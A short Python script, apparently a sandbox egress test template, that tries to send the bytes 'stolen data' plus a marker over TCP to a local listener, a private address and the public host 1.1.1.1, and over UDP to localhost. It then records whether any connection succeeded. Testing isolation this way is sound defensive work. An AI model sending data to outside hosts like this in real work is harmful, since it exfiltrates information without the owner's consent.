"""Send what it can to an outside address and to a listener on 127.0.0.1."""
import socket

connected = []
for address in (("127.0.0.1", __PORT__), ("10.0.0.1", 80), ("1.1.1.1", 443)):
    try:
        s = socket.create_connection(address, timeout=1)
        s.sendall(b"stolen data __MARKER__")
        s.close()
        connected.append(address)
    except OSError as e:
        print("no connection to", address, type(e).__name__)
try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"__MARKER__", ("127.0.0.1", __PORT__))
except OSError as e:
    print("no udp:", type(e).__name__)
ANSWER_OK = bool(connected)
